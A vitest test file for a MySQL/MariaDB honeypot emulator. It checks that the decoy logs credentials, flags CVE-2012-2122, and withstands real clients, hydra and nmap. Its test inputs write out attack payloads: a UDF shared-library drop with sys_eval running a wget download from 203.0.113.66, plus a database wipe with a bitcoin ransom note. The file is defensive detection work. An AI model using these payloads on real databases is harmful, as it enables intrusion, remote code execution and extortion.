import { Buffer } from 'node:buffer';
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DecoyOutput } from '../../core/decoy.ts';
import type { Persona } from '../../core/persona.ts';
import { createPersona } from '../../personas/index.ts';
import { mysqlPacket } from '../../wire/mysql-packet.ts';
import { cut, exploitNames, replyText, stillContext, talk } from '../../../test/support/decoy-talk.ts';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { mysql } from './mysql.ts';
import { nativeProof } from './proof.ts';

// The spread reads the persona's keys once; a copy is a new machine to the decoy.
const base: Persona = {
  ...createPersona('debian-db', 'mysql test', { now: Date.parse('2026-03-01T12:00:00Z') }),
};

function persona(product: string, version: string, more: Partial<Persona> = {}): Persona {
  return {
    ...base,
    software: { mysql: { product, version } },
    login: { accepted: [], acceptAfter: 0 },
    ...more,
  };
}

const maria = (more: Partial<Persona> = {}): Persona => persona('MariaDB', '10.5.23-MariaDB-0+deb11u1', more);

const nonce = Buffer.from(
  stillContext(base)
    .randomBytes(20)
    .map((octet) => 33 + (octet % 94)),
);

function login(user: string, password: string): Buffer {
  const head = Buffer.alloc(32);
  // Long password, local files, protocol 4.1, secure connection, several statements, named method.
  head.writeUInt32LE(0x98281, 0);
  const proof = password === '' ? Buffer.alloc(0) : nativeProof(password, nonce);
  return mysqlPacket(
    Buffer.concat([
      head,
      Buffer.from(`${user}\0`),
      Buffer.of(proof.length),
      proof,
      Buffer.from('mysql_native_password\0'),
    ]),
    1,
  );
}

const query = (text: string): Buffer =>
  mysqlPacket(Buffer.concat([Buffer.of(3), Buffer.from(text, 'latin1')]), 0);

/** Logs in and gives these statements. */
function ask(who: Persona, ...statements: string[]): DecoyOutput[] {
  return talk(mysql, stillContext(who), [login('root', 'root'), ...statements.map(query)]);
}

const capturesOf = (outputs: readonly DecoyOutput[]): string[] =>
  outputs.flatMap((output) =>
    output.do === 'capture'
      ? [`${output.how} ${output.name ?? ''} ${Buffer.from(output.bytes).toString('latin1')}`]
      : [],
  );

describe('the mysql decoy', () => {
  it('records the password behind a proof where it is a common one, and the proof where it is not', () => {
    const known = talk(mysql, stillContext(maria()), [login('root', '123456')]);
    expect(known).toContainEqual({
      do: 'saw',
      fact: {
        kind: 'auth',
        service: 'mysql',
        user: 'root',
        method: 'password',
        password: '123456',
        accepted: false,
      },
    });
    expect(replyText(known)).toContain(
      "\xff\x15\x04#28000Access denied for user 'root'@'198.51.100.7' (using password: YES)",
    );
    expect(known.at(-1)).toEqual({ do: 'close' });
    const hidden = talk(mysql, stillContext(maria()), [login('root', 'correct horse battery')]);
    const proof = nativeProof('correct horse battery', nonce).toString('hex');
    expect(hidden).toContainEqual({
      do: 'saw',
      fact: {
        kind: 'auth',
        service: 'mysql',
        user: 'root',
        method: 'other',
        password: `$mysqlna$${nonce.toString('hex')}*${proof}`,
        accepted: false,
      },
    });
  });

  it('lets in by the persona’s policy', () => {
    const listed = maria({ login: { accepted: [['app', 'zebra77']], acceptAfter: 0 } });
    expect(replyText(talk(mysql, stillContext(listed), [login('app', 'zebra77')]))).toMatch(
      /\x07\0\0\x02\0\0\0\x02\0\0\0$/,
    );
    const after = maria({ login: { accepted: [], acceptAfter: 2 } });
    const context = stillContext(after);
    expect(replyText(talk(mysql, context, [login('admin', 'unknown to all')]))).toContain('Access denied');
    expect(replyText(talk(mysql, context, [login('admin', 'unknown to all')]))).not.toContain(
      'Access denied',
    );
    expect(replyText(talk(mysql, context, [login('admin', '')]))).toContain('(using password: NO)');
  });

  it('is caught by the comparison that CVE-2012-2122 is about, where its version has it', () => {
    let tries = 0;
    const old = persona('MySQL', '5.5.22', {});
    const context = {
      ...stillContext(old),
      randomBytes: (count: number) => new Uint8Array(count).fill(tries > 60 ? 0 : 1),
    };
    const names: string[] = [];
    for (; tries < 63; tries += 1)
      names.push(...exploitNames(talk(mysql, context, [login('root', 'not it at all')])));
    expect(names).toEqual(['mysql-authentication-flaw', 'mysql-authentication-flaw']);
    const patched = { ...stillContext(maria()), randomBytes: (count: number) => new Uint8Array(count) };
    expect(replyText(talk(mysql, patched, [login('root', 'not it at all')]))).toContain('Access denied');
  });

  it('keeps the library that is dropped, loads it, and runs what it is asked to', () => {
    const who = maria();
    const outputs = ask(
      who,
      "CREATE DATABASE d; USE d; CREATE TABLE b (x LONGBLOB); INSERT INTO b VALUES (0x7f454c46); SELECT x FROM b INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'",
      "CREATE FUNCTION sys_eval RETURNS STRING SONAME 'udf.so'",
      "SELECT sys_eval('wget http://203.0.113.66/a.sh -O /tmp/a; id')",
    );
    expect(capturesOf(outputs)[0]).toBe('mysql-dumpfile /usr/lib/mysql/plugin/udf.so \x7fELF');
    expect(exploitNames(outputs)).toEqual(['mysql-udf-drop', 'mysql-udf-create', 'mysql-udf-command']);
    expect(replyText(outputs)).toContain('uid=');
    const urls = outputs.flatMap((output) =>
      output.do === 'saw' && output.fact.kind === 'command' ? (output.fact.urls ?? []) : [],
    );
    expect(urls).toContain('http://203.0.113.66/a.sh');
    // The same visitor finds it again, nobody else does.
    expect(replyText(ask(who, 'SELECT name, dl FROM mysql.func'))).toContain('udf.so');
    expect(
      replyText(
        talk(mysql, stillContext(who, { source: '198.51.100.8' }), [
          login('root', 'root'),
          query('SELECT name FROM mysql.func'),
        ]),
      ),
    ).not.toContain('sys_eval');
  });

  it('recognises data held to ransom and keeps the note', () => {
    const who = maria();
    const [, name = ''] =
      /\n?(app|shop|store|crm|portal|billing|production|webapp)/.exec(
        replyText(ask(who, 'SHOW DATABASES')),
      ) ?? [];
    expect(name).not.toBe('');
    const note = 'All your data is backed up. Send 0.02 BTC to recover it: http://example.onion';
    const outputs = ask(
      who,
      `DROP DATABASE \`${name}\`; CREATE DATABASE README; USE README; CREATE TABLE WARNING (id int, message text); INSERT INTO WARNING VALUES (1, '${note}')`,
    );
    expect(exploitNames(outputs)).toEqual([
      'mysql-data-destruction',
      'mysql-ransom-note',
      'mysql-ransom-note',
      'mysql-ransom-note',
    ]);
    expect(capturesOf(outputs)).toEqual([`ransom-note WARNING 1\n${note}`]);
    expect(replyText(ask(who, 'SHOW DATABASES'))).not.toContain(name);
  });

  it('has no exploit to tell of in ordinary use', () => {
    expect(
      exploitNames(ask(maria(), 'SELECT 1', 'SHOW TABLES', 'CREATE DATABASE a', 'DROP TABLE IF EXISTS a.b')),
    ).toEqual([]);
  });

  it('asks for the file that the client means to load, and keeps it', () => {
    const who = maria();
    const outputs = talk(mysql, stillContext(who), [
      login('root', 'root'),
      query('CREATE DATABASE d; USE d; CREATE TABLE t (a text)'),
      query("LOAD DATA LOCAL INFILE '/home/me/list.txt' INTO TABLE t"),
      mysqlPacket(Buffer.from('one\ntwo\n'), 2),
      mysqlPacket(Buffer.alloc(0), 3),
      query('SELECT 2'),
    ]);
    expect(replyText(outputs)).toContain('\xfb/home/me/list.txt');
    expect(capturesOf(outputs)).toEqual(['mysql-load-data /home/me/list.txt one\ntwo\n']);
    expect(replyText(outputs)).toContain('Records: 2');
  });

  it('waits as SLEEP asks, and ends work that has no end', () => {
    expect(ask(maria(), 'SELECT SLEEP(3)')).toContainEqual({ do: 'pause', milliseconds: 3000 });
    const many = `SELECT COUNT(*) FROM ${Array.from({ length: 9 }, (_, index) => `information_schema.TABLES t${index}`).join(', ')}`;
    expect(replyText(ask(maria(), many))).toContain('#70100Query execution was interrupted');
    expect(replyText(ask(maria(), `SELECT ${'('.repeat(3000)}1`))).toContain(
      'You have an error in your SQL syntax',
    );
    expect(replyText(ask(maria(), `SELECT REPEAT(REPEAT('a', 1000000), 1000000)`))).toContain('\xfb');
  });

  it('prepares and executes statements', () => {
    const prepare = mysqlPacket(Buffer.from('\x16SELECT ? AS a', 'latin1'), 0);
    const execute = mysqlPacket(Buffer.from('\x17\x01\0\0\0\0\x01\0\0\0\0\x01\xfd\0\x05hello', 'latin1'), 0);
    const text = replyText(talk(mysql, stillContext(maria()), [login('root', 'root'), prepare, execute]));
    expect(text).toContain('\x0c\0\0\x01\0\x01\0\0\0\x01\0\x01\0');
    expect(text).toContain('\0\0\x05hello');
  });

  const words = fc.constantFrom(
    'SELECT',
    '1',
    '*',
    'FROM',
    'mysql.user',
    'WHERE',
    "'a'",
    '(',
    ')',
    ',',
    'SHOW',
    'TABLES',
    'INSERT',
    'INTO',
    'VALUES',
    'CREATE',
    'TABLE',
    't',
    'DATABASE',
    'd',
    'DROP',
    'USE',
    ';',
    '=',
    'int',
    'SET',
    '@a',
    '@@version',
    'UNION',
    'LIMIT',
    'ORDER BY',
    'LIKE',
    'NOT',
    'IN',
    'CASE',
    'WHEN',
    'THEN',
    'END',
    '/*!',
    '*/',
    '-- ',
    '`',
    '"',
    '0x41',
    'INTO DUMPFILE',
    'NULL',
    'AS',
    'JOIN',
    'ON',
    'GROUP BY',
    'SLEEP(1)',
    'LOAD DATA LOCAL INFILE',
    'EXPLAIN',
    'UPDATE',
    'DELETE',
  );
  const statement = fc.array(words, { maxLength: 14 }).map((list) => query(list.join(' ')));
  const command = fc.uint8Array({ minLength: 1, maxLength: 24 }).map((bytes) => mysqlPacket(bytes, 0));
  const stream = fc
    .tuple(
      fc.constantFrom(login('root', 'root'), login('a', 'b'), Buffer.alloc(0)),
      fc.array(fc.oneof(statement, statement, command, fc.uint8Array({ maxLength: 40 })), { maxLength: 5 }),
    )
    .map(([first, rest]) => Buffer.concat([first, ...rest]));

  it('gives the same for any split of any bytes, and never throws', () => {
    fc.assert(
      fc.property(stream, fc.array(fc.nat(400), { maxLength: 6 }), (bytes, places) => {
        const whole = talk(mysql, stillContext(maria()), [bytes]);
        expect(talk(mysql, stillContext(maria()), cut(bytes, places))).toEqual(whole);
      }),
      { numRuns: 150 },
    );
  });
});

async function run(program: string, words: readonly string[]): Promise<string> {
  const child = spawn(program, [...words], { stdio: ['ignore', 'pipe', 'pipe'] });
  let text = '';
  child.stdout.on('data', (piece: Buffer) => (text += piece.toString()));
  child.stderr.on('data', (piece: Buffer) => (text += piece.toString()));
  await new Promise((resolve) => child.on('close', resolve));
  return text;
}

describe('clients', () => {
  const client = (port: number, ...words: string[]): Promise<string> =>
    run('mariadb', ['--no-defaults', '-h127.0.0.1', `-P${port}`, ...words]);

  needTools(['mariadb', 'mariadb-dump'])('serves the client and the dump of MariaDB', async () => {
    await using served = await serveDecoy(mysql, maria());
    expect(
      await client(
        served.port,
        '-uroot',
        '-proot',
        '-N',
        '-e',
        'select version(); show databases like "mys%"',
      ),
    ).toBe('10.5.23-MariaDB-0+deb11u1\nmysql\n');
    expect(await client(served.port, '-uroot', '-pwrong')).toBe(
      "ERROR 1045 (28000): Access denied for user 'root'@'127.0.0.1' (using password: YES)\n",
    );
    await client(
      served.port,
      '-uroot',
      '-proot',
      '-e',
      "create database d; create table d.t (a int, b text); insert into d.t values (1, 'x')",
    );
    const dump = await run('mariadb-dump', [
      '--no-defaults',
      '-h127.0.0.1',
      `-P${served.port}`,
      '-uroot',
      '-proot',
      'd',
    ]);
    expect(dump).toMatch(/INSERT INTO `t` VALUES\s\(1,'x'\);/);
    expect(dump).toContain('-- Dump completed');
    expect(served.errors).toEqual([]);
    expect([...served.fingerprints.values()].map((each) => each.banner)[0]).toContain('libmariadb');
  });

  needTools(['mariadb'])('takes the password itself with caching_sha2_password, inside TLS', async () => {
    await using served = await serveDecoy(mysql, persona('MySQL', '8.0.36-0ubuntu0.22.04.1'));
    const tls = ['--ssl', '--skip-ssl-verify-server-cert'];
    expect(await client(served.port, ...tls, '-uroot', '-psome thing rare')).toContain('Access denied');
    expect(await client(served.port, ...tls, '-uroot', '-proot', '-N', '-e', 'select version()')).toBe(
      '8.0.36-0ubuntu0.22.04.1\n',
    );
    const guesses = served.facts.flatMap((fact) =>
      fact.kind === 'auth' ? [[fact.method, fact.password, fact.accepted]] : [],
    );
    expect(guesses).toEqual([
      ['password', 'some thing rare', false],
      ['password', 'root', true],
    ]);
    expect(served.errors).toEqual([]);
  });

  needTools(['hydra'])('is guessed by hydra', async () => {
    await using served = await serveDecoy(mysql, maria());
    const folder = mkdtempSync(join(tmpdir(), 'hydra-'));
    try {
      writeFileSync(join(folder, 'list'), '123456\nnot on any list\nroot\n');
      const text = await run('hydra', [
        '-I',
        '-t',
        '1',
        '-l',
        'root',
        '-P',
        join(folder, 'list'),
        '-s',
        String(served.port),
        'mysql://127.0.0.1',
      ]);
      expect(text).toContain('password: root');
      const guesses = served.facts.flatMap((fact) => (fact.kind === 'auth' ? [fact.method] : []));
      expect(guesses).toEqual(expect.arrayContaining(['password', 'other']));
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });

  needTools(['nmap'])('is named by nmap with product and version', async () => {
    await using served = await serveDecoy(mysql, maria());
    const text = await run('nmap', [
      '-Pn',
      '-sV',
      '-p',
      String(served.port),
      '--script',
      'mysql-info',
      '127.0.0.1',
    ]);
    expect(text).toMatch(/open\s+mysql\s+(?:MySQL|MariaDB) 5\.5\.5-10\.5\.23-MariaDB-0\+deb11u1/);
    expect(text).toContain('Auth Plugin Name: mysql_native_password');
    expect(served.errors).toEqual([]);
  });
});
